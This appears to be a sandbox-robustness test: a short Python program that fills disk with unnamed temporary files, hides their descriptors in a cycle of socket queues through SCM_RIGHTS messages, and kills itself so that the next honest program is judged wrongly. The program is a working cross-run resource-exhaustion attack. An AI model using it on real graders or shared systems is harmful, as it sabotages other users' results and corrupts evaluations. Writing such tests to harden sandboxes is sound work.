# TRIES: to leave disk taken by files that have no name and no process: their descriptors lie in the queues of sockets that lie in each
# other's queues, where only the kernel's garbage collection finds them. SUCCESS: the honest program after it is judged wrongly.
#: check = next Passed; leftover; hurt
#: short = yes

import array
import os
import socket
import tempfile

files = []
try:
    for n in range(12):
        file = tempfile.TemporaryFile(dir=".")
        file.write(b"x" * (4 << 20))
        file.flush()
        files.append(file.fileno())
        left, right = socket.socketpair()
        rights = array.array("i", [*files, left.fileno(), right.fileno()])
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        right.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        files.append(left.detach())
        files.append(right.detach())
except OSError as error:
    print(error)
os.kill(os.getpid(), 9)


def solve(x):
    return 3


# ==== NEXT EXECUTION ====
def solve(x):
    with open("honest", "wb") as file:
        for n in range(12):
            file.write(b"y" * (1 << 20))
    return x + 1
